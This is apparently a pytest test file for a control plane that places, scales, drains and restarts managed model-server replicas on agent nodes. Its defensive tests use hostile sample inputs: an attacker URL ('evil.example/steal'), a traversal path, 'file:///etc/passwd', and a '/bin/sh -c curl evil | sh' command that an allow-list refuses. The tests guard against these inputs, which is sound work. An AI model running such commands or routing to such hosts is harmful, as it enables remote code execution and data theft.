"""The container manager's parts without processes: the `managed:` config block (every key takes
effect or is refused at its path and line), placement and scaling tables, and the manager driven
with the real registry, tracker and collector and hand-made agent reports (ready-gated endpoints,
drain waiting for ACKs and in-flight calls, hostile reports bounded and confined to their node)."""

from __future__ import annotations

import dataclasses
import math
from pathlib import Path

import pytest

from switchgear.controlplane.agents import AgentTracker, NodeInfo
from switchgear.controlplane.collector import Collector
from switchgear.controlplane.config import ConfigError, load_config
from switchgear.controlplane.container_manager import (
    MAX_LOG_LINES,
    MAX_REPORTED,
    MAX_TEXT,
    RECONNECT_GRACE_S,
    ContainerManager,
)
from switchgear.controlplane.containers import Scaler, place, utilisation
from switchgear.controlplane.model import ManagedSpec
from switchgear.controlplane.registry import Registry
from switchgear.controlplane.store import SqliteStore
from switchgear.controlplane.tasks.model import Resources
from switchgear.dataplane.managed.node import MAX_ASSIGNMENTS, NodeManager, NodeResources
from switchgear.v1 import loadreport_pb2
from switchgear.wire.stats import LoadRow

ENTRY = """\
external_services:
  services:
    llm_services:
      local_models:
        - name: "llama"
          managed:
{body}
"""
FULL = """\
            backend: process
            command: ["llama-server", "--port", "${PORT}", "--model", "${MODEL_DIR}/m.gguf"]
            env: {THREADS: "4", LISTEN: "127.0.0.1:${PORT}"}
            inherit_env: [HF_TOKEN]
            port: 0
            url: "http://127.0.0.1:${PORT}/v1"
            readiness: {path: /health, timeout: 90s}
            resources: {cpu: 2, memory: 8Gi, gpu: 0.5}
            replicas: {min: 2, max: 4}
            concurrency: 8
            scaling:
              {scale_up_utilization: 0.9, scale_down_utilization: 0.5, scale_up_window: 10s, scale_down_window: 1m}
            restart: {backoff: 2s, max_backoff: 1m, max_crashes: 3, crash_window: 10m}
            stop_grace: 5s
            drain_timeout: 20s
            log_bytes: 4Mi"""


CMD = '            command: ["s"]'


def load(body: str) -> ManagedSpec:
    state = load_config(ENTRY.format(body=body), env={"MODEL_DIR": "/models"})
    managed = state.services[0].managed
    assert managed is not None and state.services[0].endpoints == ()
    return managed


def problems(body: str, entry: str = ENTRY) -> list[tuple[str, int | None, str]]:
    with pytest.raises(ConfigError) as info:
        load_config(entry.format(body=body), env={})
    return [(p.path.removeprefix("external_services.services.llm_services.local_models[0]."), p.line, p.message)
            for p in info.value.problems]


def test_every_managed_key_takes_effect_and_port_is_left_for_the_agent() -> None:
    m = load(FULL)
    assert m == ManagedSpec(
        command=("llama-server", "--port", "${PORT}", "--model", "/models/m.gguf"), backend="process",
        env=(("LISTEN", "127.0.0.1:${PORT}"), ("THREADS", "4")), inherit_env=("HF_TOKEN",), port=0,
        url="http://127.0.0.1:${PORT}/v1", readiness_path="/health", readiness_timeout_s=90.0, cpu=2.0,
        memory_bytes=8 * 1024**3, gpu=0.5, min_replicas=2, max_replicas=4, concurrency=8,
        scale_up_utilization=0.9, scale_down_utilization=0.5, scale_up_window_s=10.0, scale_down_window_s=60.0,
        restart_backoff_s=2.0, restart_max_backoff_s=60.0, max_crashes=3, crash_window_s=600.0, stop_grace_s=5.0,
        drain_timeout_s=20.0, log_bytes=4 * 1024**2)
    # The defaults: the seed's thresholds, one replica, the protocol's own health call.
    d = load('            command: ["srv"]')
    assert (d.min_replicas, d.max_replicas, d.scale_up_utilization, d.scale_down_utilization) == (1, 1, 0.8, 0.6)
    assert load('            command: ["srv"]\n            replicas: 3').min_replicas == 3


@pytest.mark.parametrize(("body", "path", "line", "fragment"), [
    (f"{CMD}\n            replicas: {{min: 1, mx: 2}}", "managed.replicas.mx", 8, "did you mean 'max'"),
    ('            command: ["s"]\n            replicas: {min: 3, max: 2}', "managed.replicas.min", 8, "exceeds max"),
    ('            command: ["s"]\n            replicas: {min: 1, max: 2}', "managed", 6, "needs concurrency"),
    (f"{CMD}\n            backend: kubernetes", "managed.backend", 8, "unknown backend 'kubernetes'"),
    ('            command: ["s"]\n            backend: docker', "managed", 6, "needs an image"),
    ('            command: ["s"]\n            image: "llama:1"', "managed.image", 8, "needs backend: docker"),
    ('            image: "l:1"\n            backend: docker\n            volumes: ["models:/m"]', "managed.volumes[0]",
     9, "absolute paths"),
    ('            command: ["s"]\n            replicas: {max: 100000}', "managed.replicas.max", 8, "between 1 and 64"),
    ('            command: ["s"]\n            resources: {cpu: -1}', "managed.resources.cpu", 8, "between 0"),
    ('            command: ["s"]\n            scaling: {scale_down_utilization: 0.9}',
     "managed.scaling.scale_down_utilization", 8, "below scale_up"),
    (f"{CMD}\n            readiness: {{path: health}}", "managed.readiness.path", 8, "start with '/'"),
    ('            command: ["s"]\n            url: "ftp://x"', "managed.url", 8, "http://"),
    ('            command: ["s", "${NOPE}"]', "managed.command", 7, "NOPE"),
    ('            env: {A: "1"}', "managed", 6, "missing required key 'command' (or 'image'"),
    ('            command: "llama-server --port 1"', "managed.command", 7, "list"),
    ('            command: ["s"]\n            replicas: "many"', "managed.replicas", 8, "integer"),
])
def test_a_bad_managed_key_is_refused_at_its_path_and_line(body: str, path: str, line: int, fragment: str) -> None:
    found = problems(body)
    assert any(p == path and ln == line and fragment in msg for p, ln, msg in found), found


def test_managed_with_endpoints_or_a_protocol_without_health_call_is_refused() -> None:
    entry = ENTRY.replace('- name: "llama"', '- name: "llama"\n          endpoint: "http://h/v1"')
    assert any("endpoints are its replicas" in m for _, _, m in problems('            command: ["s"]', entry))
    docs = ENTRY.replace("llm_services:\n      local_models:", "document_services:\n      unstructured:") \
        .replace('        - name: "llama"\n', "        name: parse\n").replace("          managed:", "        managed:")
    found = problems('          command: ["s"]', docs)
    assert any(p.endswith("managed") and "no health call" in m and "readiness.path" in m for p, _, m in found), found


def test_placement_takes_the_agent_with_most_free_cpu_where_it_fits() -> None:
    need = Resources(cpu=2, memory_bytes=4, gpu=1)
    pools = {"a": Resources(cpu=8, memory_bytes=16, gpu=0), "b": Resources(cpu=4, memory_bytes=16, gpu=1),
             "c": Resources(cpu=6, memory_bytes=16, gpu=2)}
    assert place(need, pools, {}) == "c"  # a has no gpu; c has more free cpu than b
    assert place(need, pools, {"c": Resources(cpu=5, gpu=1)}) == "b"
    assert place(need, pools, {"b": Resources(cpu=3), "c": Resources(cpu=5)}) is None
    assert place(need, {}, {}) is None


def test_utilisation_and_scaling_windows() -> None:
    assert utilisation(3, 2, 2) == 0.75 and utilisation(5, 0, 2) == 0.0 and utilisation(1, 1, 0) == 0.0
    spec = ManagedSpec(command=("s",), min_replicas=1, max_replicas=3, concurrency=2,
                       scale_up_window_s=10, scale_down_window_s=30)
    s = Scaler()
    assert s.decide(spec, 1, 0.9, 0) == 0
    assert s.decide(spec, 1, 0.7, 5) == 0  # a dip below 0.8 restarts the window
    assert s.decide(spec, 1, 0.9, 6) == 0 and s.decide(spec, 1, 0.9, 15.9) == 0
    assert s.decide(spec, 1, 0.9, 16) == 1  # sustained 10 s
    assert s.decide(spec, 2, 0.9, 17) == 0  # the window starts over after a decision
    assert s.decide(spec, 3, 0.95, 100) == 0 and s.decide(spec, 3, 0.95, 200) == 0  # at max
    assert s.decide(spec, 3, 0.1, 300) == 0 and s.decide(spec, 3, 0.1, 330) == -1
    assert s.decide(spec, 1, 0.0, 400) == 0 and s.decide(spec, 1, 0.0, 500) == 0  # at min
    fixed = dataclasses.replace(spec, max_replicas=1)
    assert Scaler().decide(fixed, 1, 5.0, 0) == 0 and Scaler().decide(fixed, 1, 5.0, 1e9) == 0


# --- the manager, with the real registry, tracker and collector --------------------------------

MANAGED = ENTRY.format(body="""\
            command: ["srv", "--port", "${PORT}"]
            replicas: {min: 1, max: 2}
            concurrency: 2
            scaling: {scale_up_window: 1s, scale_down_window: 1s}
            drain_timeout: 30s""")


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def world(tmp_path: Path) -> tuple[ContainerManager, Registry, AgentTracker, Collector, Clock]:
    registry = Registry(SqliteStore(tmp_path / "r.db"))
    registry.replace(load_config(MANAGED, env={}), "test", "managed.yaml", validated=True)
    tracker, collector, clock = AgentTracker(), Collector(), Clock()
    manager = ContainerManager(registry, tracker, collector, report_interval_s=lambda: 0.2, clock=clock)
    return manager, registry, tracker, collector, clock


def offer(cpu: float = 4) -> loadreport_pb2.NodeResources:
    return loadreport_pb2.NodeResources(cpu=cpu)


def connect(manager: ContainerManager, node: str, cpu: float = 4, *running: loadreport_pb2.ReplicaStatus) -> None:
    """An agent's first load report: its offer and the replicas it already runs."""
    manager.node_offered(node, offer(cpu))
    manager.node_report(node, list(running))


def status(replica_id: str, state: str, url: str = "http://127.0.0.1:9001/v1", **kw: object
           ) -> loadreport_pb2.ReplicaStatus:
    return loadreport_pb2.ReplicaStatus(id=replica_id, service="llama", state=state, url=url, **kw)  # type: ignore[arg-type]


def endpoints(registry: Registry) -> list[str]:
    spec = registry.state.service("llama")
    assert spec is not None
    return [e.id for e in spec.endpoints]


async def test_a_replica_is_an_endpoint_only_while_its_agent_says_it_is_ready(world: tuple) -> None:  # type: ignore[type-arg]
    manager, registry, *_ = world
    await manager.tick()
    assert manager.rows() == []  # no agent offers anything yet: nothing placed
    connect(manager, "agent-1")
    await manager.tick()
    (replica,) = manager.rows()
    generation, (assigned,) = manager.assignments("agent-1")  # type: ignore[misc]
    assert (assigned.id, list(assigned.command)) == (replica.id, ["srv", "--port", "${PORT}"])
    assert assigned.readiness_url == "http://${HOST}:${PORT}/v1/models" and generation > 0
    assert manager.assignments("agent-2") is None  # an agent sees only its own set
    for state, serving in (("starting", False), ("ready", True), ("restarting", False), ("ready", True)):
        manager.node_report("agent-1", [status(replica.id, state)])
        await manager.tick()
        assert endpoints(registry) == ([replica.id] if serving else []), state
    spec = registry.state.service("llama")
    assert spec is not None and spec.endpoints[0].url == "http://127.0.0.1:9001/v1"
    # Re-applying the config keeps the replica's endpoint (the manager owns it, not the file).
    registry.replace(load_config(MANAGED, env={}), "test", "managed.yaml", validated=True)
    assert endpoints(registry) == [replica.id]
    manager.node_gone("agent-1")
    await manager.tick()
    assert endpoints(registry) == [] and manager.rows() == []


async def one_ready_replica(manager: ContainerManager, registry: Registry, tracker: AgentTracker) -> str:
    """agent-1 connected and offering; its one replica placed and reported ready."""
    tracker.connected(NodeInfo("agent-1"), "peer", registry.snapshot.version)
    connect(manager, "agent-1")
    await manager.tick()
    replica = manager.rows()[0].id
    manager.node_report("agent-1", [status(replica, "ready")])
    await manager.tick()
    return replica


async def test_a_replica_is_stopped_only_after_agents_applied_its_removal_and_its_calls_finished(
        world: tuple) -> None:  # type: ignore[type-arg]
    manager, registry, tracker, collector, clock = world
    first = await one_ready_replica(manager, registry, tracker)
    for _ in range(3):  # 4 calls in flight on concurrency 2 for over the 1 s window
        collector.record("agent-1", [LoadRow(service="llama", endpoint=first, in_flight=4)], clock.now)
        await manager.tick()
        clock.now += 0.6
    assert len(manager.rows()) == 2 and any("scale_out" in d for d in manager.decisions)
    second = next(r.id for r in manager.rows() if r.id != first)
    manager.node_report("agent-1", [status(first, "ready"), status(second, "ready", "http://127.0.0.1:9002/v1")])
    await manager.tick()
    assert sorted(endpoints(registry)) == sorted([first, second])
    # The load is gone (except one call still on `second`): below 0.6 for 1 s -> one drained.
    collector.record("agent-1", [LoadRow(service="llama", endpoint=second, in_flight=1)], clock.now)
    for _ in range(3):
        await manager.tick()
        clock.now += 0.6
    draining = [r for r in manager.rows() if r.draining_since is not None]
    assert len(draining) == 1 and any("scale_in" in d for d in manager.decisions)
    victim = draining[0].id
    assert victim not in endpoints(registry)  # out of the snapshot first
    clock.now += 5
    await manager.tick()
    assert victim in {r.id for r in manager.rows()}  # the agent has not ACKed the version without it
    tracker.acked("agent-1", registry.snapshot.version)
    collector.record("agent-1", [LoadRow(service="llama", endpoint=victim, in_flight=1)], clock.now)
    await manager.tick()
    assert victim in {r.id for r in manager.rows()}  # a call still in flight on it
    collector.record("agent-1", [], clock.now)
    await manager.tick()
    assert victim not in {r.id for r in manager.rows()}
    assert [a.id for a in manager.assignments("agent-1")[1]] == [r.id for r in manager.rows()]  # type: ignore[index]
    # The agent still reports it until it applies the new set: it is not adopted back.
    manager.node_report("agent-1", [status(first, "ready"), status(second, "ready", "http://127.0.0.1:9002/v1")])
    assert len(manager.rows()) == 1
    audit = [(e.action, e.target) for e in registry.audit(50)]
    assert ("scale_out", "llama") in audit and ("scale_in", "llama") in audit and ("replica_stopped", "llama") in audit


async def test_hostile_reports_are_bounded_and_confined_to_their_node(world: tuple) -> None:  # type: ignore[type-arg]
    manager, registry, *_ = world
    connect(manager, "agent-1")
    connect(manager, "agent-2", cpu=0.5)  # too small: nothing is placed on it
    await manager.tick()
    (replica,) = manager.rows()
    assert replica.node == "agent-1"
    # Another agent cannot make agent-1's replica ready, nor adopt it.
    manager.node_report("agent-2", [status(replica.id, "ready")])
    await manager.tick()
    assert endpoints(registry) == [] and manager.rows()[0].node == "agent-1"
    # Its own agent cannot point the route anywhere but the spec's URL with a host and port.
    for url in ("http://evil.example/steal", "http://127.0.0.1:9001/v1/../admin", "file:///etc/passwd"):
        manager.node_report("agent-1", [status(replica.id, "ready", url)])
        await manager.tick()
        assert endpoints(registry) == [], url
    manager.node_report("agent-1", [status(replica.id, "ready", "http://10.1.2.3:8080/v1")])
    await manager.tick()
    assert endpoints(registry) == [replica.id]
    # Names of unmanaged services or ids not ours are not adopted; a flood is cut.
    flood = [status(f"replica-{i:06d}", "ready") for i in range(MAX_REPORTED * 4)]
    flood += [loadreport_pb2.ReplicaStatus(id="replica-x", service="not-managed", state="ready")]
    manager.node_report("agent-2", flood)
    assert len(manager.rows()) <= 1 + MAX_REPORTED
    # Oversized fields are cut.
    huge = status(replica.id, "failed", message="m" * 100_000, last_log=["l" * 100_000] * 1000)
    manager.node_report("agent-1", [huge])
    row = next(r for r in manager.rows() if r.id == replica.id)
    assert len(row.message) == MAX_TEXT and len(row.last_log) == MAX_LOG_LINES
    assert all(len(line) == MAX_TEXT for line in row.last_log)


async def test_an_agent_runs_at_most_its_bound_of_assignments_and_none_without_managed_cpu(tmp_path: Path) -> None:
    class Recording:
        def __init__(self) -> None:
            self.started: list[str] = []

        async def start(self, spec: object) -> None:
            self.started.append(spec.id)  # type: ignore[attr-defined]

        async def stop(self, replica_id: str) -> None:
            self.started.remove(replica_id)

        def status(self, replica_id: str) -> None:
            return None

        async def close(self) -> None:
            self.started.clear()

    many = [loadreport_pb2.ReplicaAssignment(id=f"replica-{i}", service="s", command=["x"]) for i in range(500)]
    backend = Recording()
    nodes = NodeManager(NodeResources(cpu=1), backend)  # type: ignore[arg-type]
    await nodes.apply(many)
    assert len(backend.started) == MAX_ASSIGNMENTS
    await nodes.apply(many[:1])
    assert backend.started == ["replica-0"]
    idle = Recording()
    await NodeManager(NodeResources(), idle).apply(many)  # type: ignore[arg-type]
    assert idle.started == [] and NodeManager(NodeResources(), idle).offer() is None  # type: ignore[arg-type]
    assert math.isclose(nodes.offer().cpu, 1.0)  # type: ignore[union-attr]


async def test_a_changed_spec_rolls_out_without_leaving_the_route_empty(world: tuple) -> None:  # type: ignore[type-arg]
    manager, registry, tracker, _, clock = world
    old = await one_ready_replica(manager, registry, tracker)
    registry.replace(load_config(MANAGED.replace('"srv"', '"srv2"'), env={}), "test", "v2.yaml", validated=True)
    await manager.tick()
    new = next(r.id for r in manager.rows() if r.id != old)
    assert endpoints(registry) == [old]  # the old one serves while the new one starts
    manager.node_report("agent-1", [status(old, "ready"), status(new, "starting", "http://127.0.0.1:9002/v1")])
    clock.now += 5
    await manager.tick()
    assert endpoints(registry) == [old] and all(r.draining_since is None for r in manager.rows())
    manager.node_report("agent-1", [status(old, "ready"), status(new, "ready", "http://127.0.0.1:9002/v1")])
    await manager.tick()
    assert endpoints(registry) == [new]  # the old one leaves the route once the new one serves
    tracker.acked("agent-1", registry.snapshot.version)
    clock.now += 1
    await manager.tick()
    assert [r.id for r in manager.rows()] == [new]
    (assigned,) = manager.assignments("agent-1")[1]  # type: ignore[index]
    assert assigned.command[0] == "srv2"


async def test_an_agent_runs_only_the_programs_it_allows() -> None:
    started: list[str] = []

    class Backend:
        async def start(self, spec: object) -> None:
            started.append(spec.id)  # type: ignore[attr-defined]

        def status(self, replica_id: str) -> None:
            return None

    nodes = NodeManager(NodeResources(cpu=1), Backend(), allowed=["/opt/llama/llama-server"])  # type: ignore[arg-type]
    await nodes.apply([
        loadreport_pb2.ReplicaAssignment(id="replica-ok", service="s", command=["/opt/llama/llama-server"]),
        loadreport_pb2.ReplicaAssignment(id="replica-no", service="s", command=["/bin/sh", "-c", "curl evil | sh"]),
        loadreport_pb2.ReplicaAssignment(id="replica-dk", service="s", command=["x"], backend="docker"),
    ])
    assert started == ["replica-ok"]
    refused = {s.id: s for s in nodes.statuses() if s.id != "replica-ok"}
    assert refused["replica-no"].state == "failed" and "--managed-allow" in refused["replica-no"].message
    assert "backend 'docker'" in refused["replica-dk"].message


def test_config_validate_describes_what_agents_will_run() -> None:
    from switchgear.cli_config import describe

    text = describe(load_config(ENTRY.format(body=FULL), env={"MODEL_DIR": "/m"}))
    assert "managed=process:llama-server (+4 args) port=assigned replicas=2..4 scale out above 0.9 for 10s" in text
    boxed = describe(load_config(ENTRY.format(body='            backend: docker\n            image: "l:1"'), env={}))
    assert "managed=docker:l:1 (0 args)" in boxed and "replicas=1..1 fixed" in boxed


async def test_a_restarted_control_plane_adopts_what_agents_run_before_placing_anything(
        world: tuple, tmp_path: Path) -> None:  # type: ignore[type-arg]
    manager, registry, tracker, collector, clock = world
    replica = await one_ready_replica(manager, registry, tracker)
    version = registry.snapshot.version
    # A new manager on the same registry (the control plane restarted); the agent reconnects.
    again = ContainerManager(registry, tracker, collector, report_interval_s=lambda: 0.2, clock=clock)
    again.node_offered("agent-1", offer())  # an offer alone places nothing: its report comes first
    await again.tick()
    assert again.rows() == [] and endpoints(registry) == [replica]  # kept while agents reconnect
    connect(again, "agent-1", 4, status(replica, "ready"))
    await again.tick()
    assert [r.id for r in again.rows()] == [replica] and endpoints(registry) == [replica]
    assert registry.snapshot.version == version  # nothing changed for the agents


async def test_a_restarted_control_plane_keeps_a_replica_while_its_agent_backs_off_reconnecting(
        world: tuple, tmp_path: Path) -> None:  # type: ignore[type-arg]
    """An agent that lost its control plane comes back within its reconnect backoff (up to
    10 s), not within two load-report intervals: its replica's endpoint stays served until then,
    so the restart costs the agents no version (a flake of `make demo`'s step 6: the agent came
    back 3.1 s after the restart, its replica had been withdrawn at 3 s and was re-added)."""
    manager, registry, tracker, collector, clock = world
    replica = await one_ready_replica(manager, registry, tracker)
    version = registry.snapshot.version
    again = ContainerManager(registry, tracker, collector, report_interval_s=lambda: 0.2, clock=clock)
    for _ in range(8):  # 8 s of ticks with no agent back
        clock.now += 1.0
        await again.tick()
    assert endpoints(registry) == [replica] and registry.snapshot.version == version
    again.node_offered("agent-1", offer())
    connect(again, "agent-1", 4, status(replica, "ready"))
    await again.tick()
    assert [r.id for r in again.rows()] == [replica] and registry.snapshot.version == version
    clock.now += RECONNECT_GRACE_S + 1.0
    await again.tick()
    assert endpoints(registry) == [replica]  # adopted: no longer an inherited endpoint on probation


async def test_a_replica_whose_agent_never_comes_back_is_withdrawn_after_the_grace(
        world: tuple, tmp_path: Path) -> None:  # type: ignore[type-arg]
    manager, registry, tracker, collector, clock = world
    replica = await one_ready_replica(manager, registry, tracker)
    again = ContainerManager(registry, tracker, collector, report_interval_s=lambda: 0.2, clock=clock)
    await again.tick()
    assert endpoints(registry) == [replica]
    clock.now += RECONNECT_GRACE_S + 1.0
    await again.tick()
    assert endpoints(registry) == []
